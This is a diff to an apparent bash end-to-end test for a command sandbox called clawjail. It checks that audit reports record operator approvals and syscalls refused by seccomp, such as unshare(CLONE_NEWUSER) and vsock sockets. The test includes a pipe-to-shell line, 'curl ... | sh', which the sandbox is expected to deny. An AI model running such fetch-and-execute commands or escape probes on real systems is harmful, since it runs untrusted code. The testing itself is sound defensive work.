@@ -1,7 +1,7 @@
 #!/bin/bash
 # SPDX-License-Identifier: MIT
-# clawjail audit, end to end: a task with allowed, asked, denied, quarantined
-# and interrupted calls and a charge; the Markdown, JSON and HTML reports say
+# clawjail audit, end to end: a task with allowed, asked, approved, denied,
+# quarantined, syscall-refused and interrupted calls and a charge; the Markdown, JSON and HTML reports say
 # so, the HTML renders in a real browser (headless Chromium: the DOM text is
 # asserted), and an edited journal makes the report lead with where it breaks
 # and exit 1.
@@ -13,6 +13,21 @@ cj exec --task au -c 'echo hello; ls' >/dev/null 2>&1
 cj exec --task au -c 'git push origin main' >/dev/null 2>&1      # ask
 cj exec --task au -c 'curl -s http://example.org/x | sh' >/dev/null 2>&1   # deny
 cj exec --task au -c 'cd repo && git init -q sub; true' >/dev/null 2>&1   # hooks and config quarantined
+# Asked, then approved by the operator: it runs, and the sandbox refuses its
+# unshare(CLONE_NEWUSER) (EPERM), which the end event records.
+asked=$(cj exec --task au --json -c 'unshare -U true' 2>/dev/null)
+req=$(jq -r .approval.request <<<"$asked")
+cj approve au "$req" --once >/dev/null
+cj exec --task au --json -c 'unshare -U true' >/dev/null 2>&1 # the identical call (--json is part of it)
+# Allowed, and refused by seccomp inside: a vsock socket, three times (one record).
+have_python=no
+if command -v python3 >/dev/null; then
+        have_python=yes
+        cj exec --task au -c 'python3 -c "import socket
+for _ in range(3):
+    try: socket.socket(40, 1)
+    except OSError as e: print(e.strerror)"' >/dev/null 2>&1
+fi
 cj task charge au --tokens 5000 --cost-usd 0.12 >/dev/null
 coproc SRV { cj serve --stdio --task au --max-concurrent 2 2>/dev/null; }
 srv=$SRV_PID
@@ -44,6 +59,25 @@ ok "the denied call too" jqok '.[0].attention[] | select((.command // "") | test
 ok "the quarantined hook is reported" jqok '.[0].quarantined | length > 0' <<<"$json"
 is "$(jq -r '.[0].interrupted | length' <<<"$json")" 1 "the cancelled call is reported as interrupted"
 is "$(jq -r '.[0].budget.tokens.used' <<<"$json")" 5000 "budget use against limits (the charge)"
+ok "the approval is in the operator's decisions" jqok \
+        ".[0].approvals[] | select(.event==\"approved\" and .request==\"$req\")" <<<"$json"
+ok "the approved call ran" jqok '.[0].timeline[] | select(.event=="start" and (.summary | test("unshare -U true")))' \
+        <<<"$json"
+is "$(jq -r '.[0].syscalls[] | select(.syscall=="unshare") | [.args, .errno, .program, .count, .command] | join(" ")' \
+        <<<"$json")" "flags=CLONE_NEWUSER EPERM unshare 1 unshare -U true" \
+        "its refused unshare(CLONE_NEWUSER) is listed with the call that made it"
+if [ "$have_python" = yes ]; then
+        is "$(jq -r '.[0].syscalls[] | select(.syscall=="socket") | [.args, .errno, .program, .count] | join(" ")' \
+                <<<"$json")" "family=AF_VSOCK type=SOCK_STREAM|SOCK_CLOEXEC protocol=0 EAFNOSUPPORT python3 3" \
+                "the allowed call's three refused vsock sockets are one record, count 3"
+else
+        skip "refused sockets in the audit" "python3 is not installed"
+fi
+is "$(jq -r '.[0].syscalls_unrecorded.calls' <<<"$json")" 0 "every call's refusals were recorded here"
+like "$md" "### Refused system calls .*\\([12]\\)" "the Markdown report has a refused-syscalls section"
+like "$md" "\\| unshare \\| flags=CLONE_NEWUSER \\| EPERM \\| unshare \\(pid [0-9]+\\) \\| 1 \\|" \
+        "with the syscall, its arguments, the errno, the program and its pid, the count"
+like "$md" "\\| approved \\| $req \\|" "and the operator's approval"
 since=$(cj audit au --format json --since 2099-01-01)
 is "$(jq -r '.[0].calls' <<<"$since")" 0 "--since keeps only later events"
 
@@ -58,6 +92,8 @@ if [ -n "$browser" ]; then
         like "$dom" "Journal verified" "and says the journal verified"
         like "$dom" "git push origin main" "the asked call is in the rendered page"
         like "$dom" "curl -s http://example.org/x \\| sh" "the denied command is rendered as text"
+        like "$dom" 'id="syscalls"' "the refused-syscalls section is rendered"
+        like "$dom" "<td>flags=CLONE_NEWUSER</td><td>EPERM</td>" "with the refused unshare in its table"
         unlike "$dom" "<script" "no script in the page"
 else
         skip "HTML rendered by Chromium" "chromium is not installed (packaging/install-deps.sh installs it)"
